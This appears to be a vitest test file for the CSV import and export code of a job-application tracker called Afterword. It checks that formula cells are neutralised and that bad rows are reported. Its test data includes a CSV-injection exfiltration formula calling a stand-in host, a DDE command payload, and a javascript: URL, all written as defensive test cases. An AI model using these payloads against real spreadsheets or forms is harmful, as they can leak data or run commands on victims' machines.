import { describe, expect, it } from 'vitest';
import { planImport } from '@/lib/csv/import-plan';
import { neutraliseCell, toCsv, unneutraliseCell } from '@/lib/csv/neutralise';

function plan(text: string, choices?: Parameters<typeof planImport>[1]) {
  const result = planImport(text, choices);
  if (!result.ok) throw new Error(result.message);
  return result.plan;
}

describe('neutralising formula cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['@SUM(1)', "'@SUM(1)"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
  ])('%s gets a leading apostrophe', (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
    expect(unneutraliseCell(safe)).toBe(cell);
  });

  it('leaves ordinary cells alone, apostrophes included', () => {
    for (const cell of ['Acme', 'O’Neil', "'quoted'", '2026-03-14', 'a=b', '']) {
      expect(neutraliseCell(cell)).toBe(cell);
      expect(unneutraliseCell(cell)).toBe(cell);
    }
  });

  it('writes CSV with a byte-order mark, CRLF, quoting and every cell neutralised', () => {
    expect(toCsv(['Company', 'Notes'], [['=1+1', 'said "hi", twice']])).toBe(
      '\ufeffCompany,Notes\r\n\'=1+1,"said ""hi"", twice"\r\n',
    );
  });
});

describe('planImport', () => {
  const good = [
    'Company,Job Title,Status,Date Applied,URL,Location,Notes',
    'Acme,Engineer,Applied,2026-01-05,https://acme.example/jobs/1,Berlin,Referred by Ada',
    'Beta,Designer,Wishlist,,,,',
    'Gamma,Writer,,,,,',
  ].join('\n');

  it('maps the columns and turns rows into applications', () => {
    const result = plan(good);
    expect(result.mapping).toEqual(['company', 'position', 'stage', 'appliedOn', 'jobUrl', 'location', 'notes']);
    expect(result.problems).toEqual([]);
    expect(result.lines).toEqual([2, 3, 4]);
    expect(result.rowCount).toBe(3);
    expect(result.rows[0]).toEqual({
      company: 'Acme',
      position: 'Engineer',
      stage: 'applied',
      appliedOn: '2026-01-05',
      jobUrl: 'https://acme.example/jobs/1',
      location: 'Berlin',
      source: null,
      notes: 'Referred by Ada',
    });
    expect(result.rows[2]).toMatchObject({ company: 'Gamma', stage: undefined, appliedOn: null, notes: null });
    expect(result.samples).toEqual(['Acme', 'Engineer', 'Applied', '2026-01-05', 'https://acme.example/jobs/1', 'Berlin', 'Referred by Ada']);
  });

  it('lists every bad row with its line and reason, and keeps the good ones', () => {
    const result = plan(
      [
        'Company,Position,Stage,Date,URL',
        'Acme,Engineer,Applied,2026-01-05,',
        'Beta,,Applied,,',
        'Gamma,Writer,Maybe,,',
        'Delta,Tester,,2031-01-01,',
        'Epsilon,Analyst,,,javascript:alert(1)',
        'Zeta,Cook,,31/31/2026,',
        `${'A'.repeat(10_000)},Clerk,,,`,
      ].join('\n'),
    );
    expect(result.rows.map((r) => r.company)).toEqual(['Acme']);
    expect(result.problems).toEqual([
      { line: 3, reason: 'Position is empty.' },
      { line: 4, reason: expect.stringMatching(/^Stage “Maybe” is not one Afterword knows: use Wishlist, Applied/) },
      { line: 5, reason: 'Applied date cannot be in the future (found “2031-01-01”).' },
      { line: 6, reason: 'Job URL must be a web address starting with http:// or https:// (found “javascript:alert(1)”).' },
      { line: 7, reason: 'Applied date “31/31/2026” is not a date: write it like 2026-03-14.' },
      { line: 8, reason: `Company can be at most 200 characters (found “${'A'.repeat(40)}…”).` },
    ]);
  });

  it('keeps formulas as typed text, and undoes Afterword’s own neutralising', () => {
    const result = plan(['Company,Position,Notes', `"=HYPERLINK(""https://evil.example"",""x"")",@SUM(1),'-2+3`].join('\n'));
    expect(result.rows[0]).toMatchObject({ company: '=HYPERLINK("https://evil.example","x")', position: '@SUM(1)', notes: '-2+3' });
  });

  it('says which order it assumes for slash dates, and follows the person’s choice', () => {
    const text = 'Company,Position,Applied\nAcme,Engineer,03/04/2025\n';
    const assumed = plan(text);
    expect(assumed).toMatchObject({ dateOrder: 'month-first', dateOrderFromFile: false, hasAmbiguousDates: true });
    expect(assumed.rows[0].appliedOn).toBe('2025-03-04');
    expect(plan(text, { dateOrder: 'day-first' }).rows[0].appliedOn).toBe('2025-04-03');
    const settled = plan(`${text}Beta,Designer,25/03/2025\n`, { dateOrder: 'month-first' });
    expect(settled).toMatchObject({ dateOrder: 'day-first', dateOrderFromFile: true });
    expect(settled.rows.map((r) => r.appliedOn)).toEqual(['2025-04-03', '2025-03-25']);
  });

  it('checks no row while the mapping lacks a company or position', () => {
    const result = plan(good, { mapping: ['skip', 'position', 'stage', 'appliedOn', 'jobUrl', 'location', 'notes'] });
    expect(result.mappingProblems).toEqual(['No column is set to Company: choose the column that holds it.']);
    expect(result.rows).toEqual([]);
  });

  it('reads a remapped column', () => {
    const result = plan('Org,Job\nAcme,Engineer\n', { mapping: ['company', 'position'] });
    expect(result.rows).toMatchObject([{ company: 'Acme', position: 'Engineer' }]);
  });

  it('passes on what the file itself cannot give', () => {
    expect(planImport('')).toEqual({ ok: false, message: 'The file is empty.' });
  });
});
